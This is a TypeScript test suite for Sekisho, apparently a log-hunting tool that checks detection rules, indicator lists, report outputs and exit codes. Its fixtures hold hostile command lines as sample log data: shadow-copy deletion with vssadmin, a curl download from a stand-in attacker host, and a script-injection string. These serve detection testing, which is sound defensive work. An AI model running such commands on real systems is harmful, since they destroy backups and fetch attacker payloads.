// Hunting from the command line: findings with evidence, files for other tools, coverage, exit codes, and an orderly end on Ctrl-C.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { sekisho, startSekisho } from '#test/cli';

let directory: string;

before(async () => {
  directory = await mkdtemp(join(tmpdir(), 'sekisho-hunt-'));
});

after(() => rm(directory, { recursive: true, force: true }));

const SALT = 'ab'.repeat(16);

function processCreation(commandLine: string, second = 0, computer = 'ws-14.example.test'): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
        EventID: 1,
        TimeCreated: { '#attributes': { SystemTime: new Date(Date.parse('2026-11-20T03:15:00Z') + second * 1_000).toISOString() } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: computer,
      },
      EventData: { Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: commandLine, ParentImage: 'C:\\Windows\\explorer.exe' },
    },
  });
}

const DELETION = processCreation('vssadmin.exe Delete Shadows /All /Quiet');
const HARMLESS = processCreation('vssadmin list shadows', 5);
const RULE_TITLE = 'Shadow Copies Deleted';

async function logFile(name: string, lines: readonly string[]): Promise<string> {
  const path = join(directory, name);
  await writeFile(path, `${lines.join('\n')}\n`);
  return path;
}

interface JsonResult {
  readonly ok: boolean;
  readonly interrupted: boolean;
  readonly events: number;
  readonly outside: number;
  readonly findings: number;
  readonly byLevel: Readonly<Record<string, number>>;
  readonly rules: readonly { readonly title: string; readonly count: number; readonly level: string }[];
  readonly coverage: {
    readonly rulesLoaded: number;
    readonly indicators?: { readonly loaded: number; readonly skippedTotal: number };
    readonly skipped: readonly { readonly path: string; readonly reason: string }[];
    readonly badRecords: {
      readonly total: number;
      readonly shown: readonly { readonly position: { readonly record: number }; readonly problem: string }[];
    };
    readonly withoutLogs: readonly { readonly logsource: string }[];
    readonly files: readonly { readonly file: string; readonly events: number; readonly sha256: string }[];
  };
  readonly found: readonly JsonFinding[];
}

interface JsonFinding {
  readonly rule: { readonly id: string; readonly title: string; readonly sha256: string };
  readonly evidence: readonly {
    readonly id: string;
    readonly fileSha256: string;
    readonly position: { readonly file: string; readonly record: number };
    readonly matched: readonly { readonly field: string; readonly value: string }[];
  }[];
}

test('a find has the hash of its file, its place, its rule and what matched, and the code is 5', async () => {
  const path = await logFile('found.jsonl', [HARMLESS, DELETION]);
  const run = await sekisho(['hunt', path, '--json'], { cwd: directory });
  assert.equal(run.code, 5, run.stderr);
  const result = JSON.parse(run.stdout) as JsonResult;
  assert.deepEqual([result.ok, result.interrupted, result.events, result.findings], [true, false, 2, 1]);
  assert.equal(result.byLevel['high'], 1);
  const [finding] = result.found;
  const evidence = finding!.evidence[0]!;
  assert.equal(finding!.rule.title, RULE_TITLE);
  assert.match(finding!.rule.sha256, /^[0-9a-f]{64}$/);
  assert.equal(
    evidence.fileSha256,
    createHash('sha256')
      .update(await readFile(path))
      .digest('hex'),
  );
  assert.deepEqual([evidence.position.file, evidence.position.record], [path, 2]);
  assert.match(evidence.id, /^evd_[0-9a-f]{16}$/);
  assert.ok(evidence.matched.some(({ field, value }) => field === 'CommandLine' && value.includes('Delete Shadows')));
});

test('nothing at or above the level is code 0, and the summary says how far it could see', async () => {
  const path = await logFile('harmless.jsonl', [HARMLESS]);
  const run = await sekisho(['hunt', path], { cwd: directory });
  assert.equal(run.code, 0, run.stderr);
  assert.match(run.stdout, /nothing found/);
  assert.match(run.stdout, /Coverage\n\s+\d+ rules and \d+ correlations over 1 events of 1 files/);
  const high = await sekisho(['hunt', await logFile('high.jsonl', [DELETION]), '--level', 'critical'], { cwd: directory });
  assert.equal(high.code, 0, high.stdout);
});

test('records of the ledger are hunted with the rules that come with Sekisho, correlations included', async () => {
  const refusal = (second: number): string =>
    JSON.stringify({
      at: new Date(Date.parse('2026-11-20T03:15:00Z') + second * 1_000).toISOString(),
      caller: { key: 'key_1', kind: 'service', name: 'build', principal: 'prn_1' },
      decision: 'refuse',
      id: `req_${second}`,
      route: `route-${second}`,
      rule: 'route-not-granted',
      salt: SALT,
      type: 'refusal',
      v: 1,
    });
  const path = await logFile(
    'ledger.jsonl',
    Array.from({ length: 6 }, (_, index) => refusal(index * 10)),
  );
  const run = await sekisho(['hunt', path, '--json', '--level', 'medium'], { cwd: directory });
  const { rules } = JSON.parse(run.stdout) as JsonResult;
  assert.deepEqual(
    rules.map(({ title }) => title),
    ['One Key Tries Many Routes'],
  );
});

test('a bad record ends nothing, and is shown with its place', async () => {
  const path = await logFile('bad.jsonl', [HARMLESS, '{"truncated":', DELETION]);
  const run = await sekisho(['hunt', path, '--json'], { cwd: directory });
  const { findings, coverage } = JSON.parse(run.stdout) as JsonResult;
  assert.equal(findings, 1);
  assert.equal(coverage.badRecords.total, 1);
  assert.equal(coverage.badRecords.shown[0]!.position.record, 2);
  const shown = await sekisho(['hunt', path], { cwd: directory });
  assert.match(shown.stdout, /bad\.jsonl, record 2, byte \d+: /);
});

test('--since and --until leave records out and say how many', async () => {
  const path = await logFile('times.jsonl', [
    processCreation('vssadmin delete shadows', -7_200),
    DELETION,
    processCreation('vssadmin delete shadows', 7_200),
  ]);
  const args = ['hunt', path, '--json', '--since', '2026-11-20T03:00Z', '--until', '2026-11-20T04:00Z'];
  const { findings, outside } = JSON.parse((await sekisho(args, { cwd: directory })).stdout) as JsonResult;
  assert.deepEqual([findings, outside], [1, 2]);
  const wrong = await sekisho(['hunt', path, '--since', 'yesterday'], { cwd: directory });
  assert.equal(wrong.code, 2);
  assert.match(wrong.stderr, /--since is no time/);
});

test('JSONL, CSV and HTML hold what was found and appear whole, without leftovers', async () => {
  const out = join(directory, 'out');
  await mkdir(out);
  const path = await logFile('outputs.jsonl', [
    DELETION,
    processCreation('vssadmin delete shadows "<script>alert(1)</script>"', 9, 'ws-2.example.test'),
  ]);
  const args = ['--jsonl', join(out, 'f.jsonl'), '--csv', join(out, 'f.csv'), '--html', join(out, 'f.html')];
  const run = await sekisho(['hunt', path, ...args], { cwd: directory });
  assert.equal(run.code, 5, run.stderr);
  assert.deepEqual((await readdir(out)).toSorted(), ['f.csv', 'f.html', 'f.jsonl']);
  const lines = (await readFile(join(out, 'f.jsonl'), 'utf8')).trimEnd().split('\n');
  assert.deepEqual(
    lines.map((line) => (JSON.parse(line) as JsonFinding).rule.title),
    [RULE_TITLE, RULE_TITLE],
  );
  const csv = await readFile(join(out, 'f.csv'), 'utf8');
  assert.match(csv, /^message,datetime,timestamp,timestamp_desc,/);
  assert.equal(csv.trimEnd().split('\r\n').length, 3);
  const html = await readFile(join(out, 'f.html'), 'utf8');
  assert.match(html, /Shadow Copies Deleted/);
  assert.doesNotMatch(html, /<script/);
  const japanese = await sekisho(['hunt', path, '--html', join(out, 'j.html'), '--language', 'ja'], { cwd: directory });
  assert.equal(japanese.code, 5);
  assert.match(await readFile(join(out, 'j.html'), 'utf8'), /ログ調査報告/);
});

test('a file that cannot be written shows before the hunt, and leaves nothing behind', async () => {
  const path = await logFile('unwritable.jsonl', [DELETION]);
  const run = await sekisho(['hunt', path, '--jsonl', join(directory, 'here.jsonl'), '--csv', join(directory, 'missing/f.csv')], {
    cwd: directory,
  });
  assert.equal(run.code, 1);
  assert.ok(!(await readdir(directory)).some((name) => name.includes('here.jsonl')));
});

test('rules that cannot be used are named with the reason, and the rest hunts', async () => {
  const rules = join(directory, 'own-rules');
  await mkdir(rules);
  const rule = (title: string, detection: string): string =>
    `title: ${title}\nid: ${title.length}2345678-1234-4234-8234-123456789012\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n${detection}\nlevel: high\n`;
  await writeFile(
    join(rules, 'good.yml'),
    rule('Good', "    selection:\n        CommandLine|contains: 'Delete'\n    condition: selection"),
  );
  await writeFile(
    join(rules, 'bad.yml'),
    rule('Not good', "    selection:\n        CommandLine|nonsense: 'Delete'\n    condition: selection"),
  );
  const path = await logFile('own.jsonl', [DELETION]);
  const { findings, coverage } = JSON.parse(
    (await sekisho(['hunt', path, '--rules', rules, '--json'], { cwd: directory })).stdout,
  ) as JsonResult;
  assert.deepEqual([findings, coverage.rulesLoaded, coverage.skipped.length], [1, 1, 1]);
  assert.match(coverage.skipped[0]!.reason, /nonsense/);
  const check = await sekisho(['rules', 'check', rules], { cwd: directory });
  assert.equal(check.code, 3);
  assert.match(check.stdout, /nonsense/);
});

test('the rules that come with Sekisho can all be used, and all their tests pass', async () => {
  const check = await sekisho(['rules', 'check', '--json'], { cwd: directory });
  const { ok, rules, correlations } = JSON.parse(check.stdout) as { ok: boolean; rules: number; correlations: number };
  assert.ok(ok && rules + correlations >= 60, check.stdout);
  const run = await sekisho(['rules', 'test', '--json'], { cwd: directory });
  assert.equal(run.code, 0);
  const tests = JSON.parse(run.stdout) as { ok: boolean; results: { ruleId: string; expected: number }[]; untested: unknown[] };
  assert.deepEqual([tests.ok, tests.untested], [true, []]);
  // Every rule has to find something and has to leave something alone.
  const kinds = Map.groupBy(tests.results, ({ ruleId }) => ruleId);
  for (const results of kinds.values())
    assert.deepEqual(results.map(({ expected }) => (expected > 0 ? 'finds' : 'leaves')).toSorted(), ['finds', 'leaves']);
});

test('rules test fails when a rule no longer finds its events, or finds others', async () => {
  const rules = join(directory, 'tested-rules');
  const tests = join(rules, 'tests/one');
  await mkdir(tests, { recursive: true });
  const id = '01234567-1234-4234-8234-123456789012';
  const write = (needle: string): Promise<void> =>
    writeFile(
      join(rules, 'one.yml'),
      `title: One\nid: ${id}\nlogsource:\n    product: x\ndetection:\n    selection:\n        a|contains: '${needle}'\n    condition: selection\nlevel: low\n`,
    );
  await writeFile(join(tests, 'positive.json'), '{"a":"needle"}');
  await writeFile(join(tests, 'negative.json'), '{"a":"hay"}');
  await writeFile(
    join(tests, 'info.yml'),
    `id: 1\nrule_metadata:\n    - id: ${id}\n      title: One\nregression_tests_info:\n    - name: Positive\n      type: json\n      match_count: 1\n      path: tests/one/positive.json\n    - name: Negative\n      type: json\n      match_count: 0\n      path: tests/one/negative.json\n`,
  );
  for (const [needle, code, message] of [
    ['needle', 0, /2 of 2 tests passed/],
    ['pin', 3, /0 of 1 events found, expected at least 1/],
    ['', 3, /1 of 1 events found, expected none/],
  ] as const) {
    await write(needle === '' ? '*' : needle);
    const run = await sekisho(['rules', 'test', rules], { cwd: directory });
    assert.equal(run.code, code, run.stdout + run.stderr);
    assert.match(run.stdout, message);
  }
});

test('indicators are seen in the same pass, with the same evidence, and entries that cannot be used are told', async () => {
  const path = await logFile('indicators.jsonl', [HARMLESS, processCreation('curl http://evil.example.test/a.exe', 3)]);
  const list = join(directory, 'list.csv');
  await writeFile(list, 'type,value,name\ndomain,evil.example.test,Bad host\nsha256,not a hash,Broken\n');
  const run = await sekisho(['hunt', path, '--iocs', list, '--json'], { cwd: directory });
  assert.equal(run.code, 5, run.stderr);
  const { found, findings, coverage } = JSON.parse(run.stdout) as JsonResult;
  assert.equal(findings, 1);
  const [finding] = found;
  assert.match(finding!.rule.title, /^Indicator seen: Bad host/);
  assert.equal(
    finding!.rule.sha256,
    createHash('sha256')
      .update(await readFile(list))
      .digest('hex'),
  );
  assert.equal(finding!.evidence[0]!.position.record, 2);
  assert.ok(finding!.evidence[0]!.matched.some(({ field, value }) => field === 'CommandLine' && value.includes('evil.example.test')));
  assert.deepEqual([coverage.indicators!.loaded, coverage.indicators!.skippedTotal], [1, 1]);
});

test('Ctrl-C ends the hunt with what was found so far, says so, and is code 130', async () => {
  const partial = join(directory, 'partial.jsonl');
  const child = startSekisho(['hunt', '-', '--json', '--jsonl', partial], { cwd: directory });
  let stdout = '';
  let stderr = '';
  let isStopped = false;
  child.stdout.setEncoding('utf8').on('data', (text: string) => (stdout += text));
  child.stderr.setEncoding('utf8').on('data', (text: string) => {
    stderr += text;
    // Said a second after the reading began. The input stays open: nothing but the signal can end it.
    if (!stderr.includes('hunting with') || isStopped) return;
    isStopped = true;
    child.kill('SIGINT');
  });
  child.stdin.on('error', () => undefined);
  child.stdin.write(`${DELETION}\n${HARMLESS}\n`);
  const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
  const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
  clearTimeout(timer);
  assert.equal(code, 130, stderr);
  const result = JSON.parse(stdout) as JsonResult;
  assert.deepEqual([result.interrupted, result.events, result.findings], [true, 2, 1]);
  assert.equal((await readFile(partial, 'utf8')).trimEnd().split('\n').length, 1);
});
